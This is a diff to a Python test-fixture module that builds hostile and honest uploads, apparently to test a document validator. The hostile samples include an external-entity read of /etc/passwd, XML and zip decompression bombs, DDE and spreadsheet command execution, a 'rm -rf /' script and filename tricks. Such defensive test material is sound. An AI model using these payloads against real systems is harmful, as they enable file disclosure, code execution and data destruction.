@@ -4,10 +4,14 @@ import io
 import stat
 import struct
 import zlib
+from pathlib import Path
 from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo
+
+import xlsxwriter
 
 from app.documents import paper
 
+SHOT = Path(__file__).resolve().parents[2] / "docs" / "ranking.png"
 PNG_HEAD = b"\x89PNG\r\n\x1a\n"
 WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
@@ -111,7 +115,7 @@ def overlapping() -> bytes:
     made = io.BytesIO()
     with ZipFile(made, "w", ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", types())
-        archive.writestr("word/document.xml", "0" * 300_000)
+        archive.writestr("word/document.xml", f"<a>{[*range(50_000)]}</a>")
         first = archive.infolist()[1]
         for i in range(100):
             again = ZipInfo(f"word/{i}.xml")
@@ -178,6 +182,79 @@ def utf16_rels() -> bytes:
 
 BILLION = (
     '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
+)
+
+
+def field(words: str, split: int = 0) -> bytes:
+    """Return a DOCX with a field, its words in one run or cut in two."""
+    runs = [words[:split], words[split:]] if split else [words]
+    told = "".join(f"<w:r><w:instrText>{w}</w:instrText></w:r>" for w in runs)
+    begin, end = (f"<w:fldChar w:fldCharType='{kind}'/>" for kind in ("begin", "end"))
+    return office(("word/footer1.xml", f"<w:ftr xmlns:w='w'>{begin}{told}{end}</w:ftr>"))
+
+
+def simple_field(words: str) -> bytes:
+    return office(
+        ("word/footer1.xml", f"<w:ftr xmlns:w='w'><w:fldSimple w:instr='{words}'/></w:ftr>")
+    )
+
+
+def sheet(*more: tuple[str, str]) -> bytes:
+    return office(*more, content_types=types(SHEET, "/xl/workbook.xml"))
+
+
+def formula(words: str) -> bytes:
+    cell = f"<worksheet><sheetData><row><c><f>{words}</f></c></row></sheetData></worksheet>"
+    return sheet(("xl/worksheets/sheet1.xml", cell))
+
+
+def entities(deep: int) -> str:
+    """A document that grows tenfold at every step (billion laughs)."""
+    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, deep))
+    return f'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY e0 "ha">{steps}]><t>&e{deep - 1};</t>'
+
+
+def nested(deep: int) -> bytes:
+    """An archive in an archive in an archive (42.zip)."""
+    inner = b"0" * 1_000_000
+    for number in range(deep):
+        made = io.BytesIO()
+        with ZipFile(made, "w", ZIP_DEFLATED) as archive:
+            for copy in range(4):
+                archive.writestr(f"{number}-{copy}", inner)
+        inner = made.getvalue()
+    return office(("word/media/image1.png", inner))
+
+
+def nul_in_a_name() -> bytes:
+    return office(("word/image1Xpng", b"x")).replace(b"image1Xpng", b"image1\x00png")
+
+
+def swollen_png(width: int = 2, height: int = 2, megas: int = 100) -> bytes:
+    """A small picture whose rows never end."""
+    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+    return PNG_HEAD + head + chunk(b"IDAT", zlib.compress(bytes(megas << 20))) + chunk(b"IEND", b"")
+
+
+def png_with(kind: bytes, body: bytes) -> bytes:
+    return png().replace(chunk(b"IEND", b""), chunk(kind, body) + chunk(b"IEND", b""))
+
+
+def exif(segments: int) -> bytes:
+    """A photo with so many full segments beside its picture."""
+    one = b"\xff\xe1" + struct.pack(">H", 65_535) + b"Exif\0\0" + b"\0" * 65_527
+    return jpeg()[:2] + one * segments + jpeg()[2:]
+
+
+def many_packed(count: int) -> bytes:
+    """A PDF of packed objects that each grow to a hundred times their size."""
+    inner = zlib.compress(b" " * 10_000_000, 9)
+    head = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
+    return pdf((head + inner + b"\nendstream\nendobj\n") * count)
+
+
+OUTSIDE_ENTITY = (
+    '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>'
 )
 MACRO_KIND = "application/vnd.ms-word.document.macroEnabled.main+xml"
 
@@ -260,4 +337,151 @@ HOSTILE: dict[str, tuple[str, bytes]] = {
     "a document named xlsx": ("预算.xlsx", office()),
     "a docx cut short": ("方案.docx", office()[:-30]),
     "an archive without content": ("方案.docx", b"PK\x03\x04" + b"\0" * 100),
+    "a program of another kind named docx": ("方案.docx", b"\x7fELF\x02\x01\x01" + b"\0" * 600),
+    "a script named jpg": ("照片.jpg", b"#!/bin/sh\nrm -rf /\n"),
+    "a drawing named png": ("照片.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
+    "an archive named pdf": ("标书.pdf", office()),
+    "an archive of another kind": ("材料.rar", b"Rar!\x1a\x07\x00"),
+    "a link to a program": ("标书.pdf.lnk", b"L\x00\x00\x00"),
+    "a word in macros' own ending": ("方案.docm", office(content_types=types(MACRO_KIND))),
+    "a name with a hidden zero": ("标书.exe\x00.pdf", b"MZ\x90\x00"),
+    "archives in archives": ("方案.docx", nested(4)),
+    "a part with a hidden zero": ("方案.docx", nul_in_a_name()),
+    "a part turned round": ("方案.docx", office(("word/\u202egnp.xml", "<a/>"))),
+    "entities in the text": ("方案.docx", office(("word/header1.xml", entities(10)))),
+    "an entity from outside": ("方案.docx", office(("word/header1.xml", OUTSIDE_ENTITY))),
+    "entities in a sheet": ("预算.xlsx", sheet(("xl/worksheets/sheet1.xml", entities(10)))),
+    "an entity from outside in a sheet": (
+        "预算.xlsx",
+        sheet(("xl/sharedStrings.xml", OUTSIDE_ENTITY)),
+    ),
+    "a field that runs": ("方案.docx", field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
+    "a field that runs, in two runs": ("方案.docx", field("DDE excel x", split=2)),
+    "a field that runs, in short": ("方案.docx", simple_field("DDEAUTO cmd")),
+    "a field that spells": ("方案.docx", field("QUOTE 68 68 69 65 85 84 79")),
+    "a field that fetches": ("方案.docx", field('INCLUDEPICTURE "https://e.org/i.png" \\d')),
+    "a formula that runs": ("预算.xlsx", formula("cmd|'/c calc'!A0")),
+    "a link that runs, of a sheet": (
+        "预算.xlsx",
+        sheet(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink/></externalLink>")),
+    ),
+    "a workbook from outside": (
+        "预算.xlsx",
+        sheet(("xl/_rels/workbook.xml.rels", external("externalLinkPath", "file:///x.xlsx"))),
+    ),
+    "an object from outside": ("方案.docx", rels("oleObject", "https://e.org/o")),
+    "a frame from outside": ("方案.docx", rels("frame", "https://e.org/f.htm")),
+    "macros of old sheets": ("预算.xlsx", sheet(("xl/macrosheets/sheet1.xml", "<a/>"))),
+    "a picture that never ends": ("照片.png", swollen_png()),
+    "a note that never ends": (
+        "照片.png",
+        png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(50 << 20))),
+    ),
+    "colours that never end": (
+        "照片.png",
+        png_with(b"iCCP", b"a\0\0" + zlib.compress(bytes(50 << 20))),
+    ),
+    "a photo full of other things": ("照片.jpg", exif(150)),
+    "a pdf that opens another": ("标书.pdf", pdf(b"<< /S /GoToE /T << /R /C >> >>")),
+    "a pdf that calls a share": ("标书.pdf", pdf(b"<< /S /GoToR /F (\\\\\\\\e.org\\\\x) >>")),
+    "a pdf that sends a form": ("标书.pdf", pdf(b"<< /S /SubmitForm /F (https://e.org) >>")),
+    "a pdf with a form of another kind": ("标书.pdf", pdf(b"<< /XFA 7 0 R >>")),
+    "a pdf that starts a script as it opens": (
+        "标书.pdf",
+        pdf(b"<< /OpenAction << /S /JavaScript /JS 6 0 R >> >>"),
+    ),
+    "a pdf that ends too early": ("标书.pdf", pdf()[:-6]),
+}
+# Not refused, and not dear either: what is in them costs the reader alone.
+HEAVY = {"a pdf of packed objects": ("标书.pdf", many_packed(300))}
+
+
+# --- honest files, as offices make them
+
+
+def streamed() -> bytes:
+    """Return a DOCX whose sizes stand behind its parts, as from a program that cannot go back."""
+
+    class OneWay(io.RawIOBase):
+        def __init__(self):
+            self.made = bytearray()
+
+        def writable(self):
+            return True
+
+        def write(self, piece):
+            self.made += piece
+            return len(piece)
+
+    way = OneWay()
+    with ZipFile(way, "w", ZIP_DEFLATED) as archive, ZipFile(io.BytesIO(office())) as made:
+        for name in made.namelist():
+            archive.writestr(name, made.read(name))
+    return bytes(way.made)
+
+
+def workbook(rows: int) -> bytes:
+    """Return a workbook with formulas, a link, a picture and a chart."""
+    made = io.BytesIO()
+    book = xlsxwriter.Workbook(made, {"in_memory": True})
+    sheet = book.add_worksheet("预算明细")
+    for row in range(rows):
+        sheet.write_row(row, 0, [f"第{row}项", row, row * 1.5, "岗位工资；含社保", "|"])
+    sheet.write_formula(0, 6, "=SUM(B1:B9)")
+    sheet.write_formula(1, 6, '=A1&"|"&B1')
+    sheet.write_url(2, 6, "https://www.mca.gov.cn/", string="民政部")
+    sheet.write_comment(3, 6, "按区标准")
+    sheet.data_validation(4, 6, 4, 6, {"validate": "list", "source": ["人员", "物资"]})
+    sheet.insert_image(5, 6, "章.png", {"image_data": io.BytesIO(png())})
+    chart = book.add_chart({"type": "column"})
+    chart.add_series({"values": "=预算明细!$B$1:$B$9"})
+    sheet.insert_chart(6, 6, chart)
+    book.close()
+    return made.getvalue()
+
+
+def interlaced() -> bytes:
+    """A 16-bit picture in seven passes, with colours and a note."""
+    width = height = 64
+    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 16, 6, 0, 0, 1))
+    passes = ((8, 8), (8, 8), (16, 8), (16, 16), (32, 16), (32, 32), (64, 32))
+    rows = b"".join(b"\0" + b"\x7f" * (w * 8) for w, h in passes for _ in range(h))
+    colours = chunk(b"iCCP", b"sRGB\0\0" + zlib.compress(bytes(3000)))
+    note = chunk(b"tEXt", b"Software\0WPS Office")
+    data = zlib.compress(rows)
+    parts = [chunk(b"IDAT", data[at : at + 100]) for at in range(0, len(data), 100)]
+    return PNG_HEAD + head + colours + note + b"".join(parts) + chunk(b"IEND", b"")
+
+
+def long_pdf() -> bytes:
+    blocks = [{"kind": "text", "text": f"第{n}条 每周上门探访，建立台账。" * 20} for n in range(60)]
+    return paper.pdf("office", {"title": "服务方案", "blocks": blocks})
+
+
+HONEST = {
+    "边写边传.docx": streamed(),
+    "页码.docx": field(r" PAGE \* MERGEFORMAT "),
+    "目录.docx": field(r' TOC \o "1-3" \h \z \u '),
+    "链接.docx": field(' HYPERLINK "https://www.mca.gov.cn/" '),
+    "贴来的图.docx": field(r' INCLUDEPICTURE "C:\\Users\\lin\\Temp\\a.png" \* MERGEFORMAT '),
+    "说到DDE.docx": office(
+        ("word/header1.xml", "<w:hdr xmlns:w='w'><w:t>DDE 与 DDEAUTO 的说明</w:t></w:hdr>")
+    ),
+    "带设置.docx": office(
+        ("word/settings.xml", "<w:settings xmlns:w='w'/>"),
+        ("word/theme/theme1.xml", "<a:theme xmlns:a='a'/>"),
+        ("docProps/app.xml", "<Properties><Application>WPS Office</Application></Properties>"),
+        ("customXml/item1.xml", "<b:Sources xmlns:b='b'/>"),
+        ("word/media/image1.png", png()),
+        ("word/media/image2.jpeg", jpeg()),
+    ),
+    "预算.xlsx": workbook(20),
+    "大预算.xlsx": workbook(5000),
+    "长方案.pdf": long_pdf(),
+    "定位.pdf": pdf(b"<< /OpenAction [3 0 R /Fit] /PageMode /UseOutlines >>"),
+    "带网址.pdf": pdf(b"<< /A << /S /URI /URI (https://www.mca.gov.cn/) >> >>"),
+    "截图.png": SHOT.read_bytes(),
+    "分层.png": interlaced(),
+    "手机照片.jpg": exif(3),
+    "渐进.jpg": jpeg().replace(b"\xff\xc0", b"\xff\xc2"),
 }
